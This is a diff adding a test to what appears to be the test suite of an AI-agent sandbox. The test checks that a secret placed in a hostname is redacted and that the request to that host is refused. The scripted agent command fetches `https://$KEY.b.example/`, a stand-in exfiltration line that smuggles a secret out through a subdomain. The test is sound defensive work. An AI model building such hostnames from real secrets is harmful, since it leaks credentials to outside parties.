@@ -244,6 +244,14 @@ def test_the_secret_shows_nowhere(home, places, mode, agent, tls, tools):
         assert word.encode() not in file.read_bytes()
 
 
+def test_a_secret_that_is_asked_for_as_a_host_shows_nowhere_either(home, places, mode, agent, tools):
+    options = agent(mode, f"init; {GET} https://$KEY.b.example/ ca.pem; result")
+    options["env"]["KEY"] = ccnb.Secret("hunter2-hunter2")
+    result = run_until_clean(places, network=["a.example"], workspace=tools, **options)
+    assert [c.host for c in result.network] == ["[redacted].b.example"]
+    assert result.network_use.refused_hosts == ("[redacted].b.example:443",)
+
+
 @pytest.mark.parametrize("network", ["none", ["a.example"]])
 def test_the_real_agent_does_the_demo_task_and_asks_for_nothing_else(home, places, mode, network):
     result = run_until_clean(places, "Write a word counter", mode=mode, network=network, **DEMO)
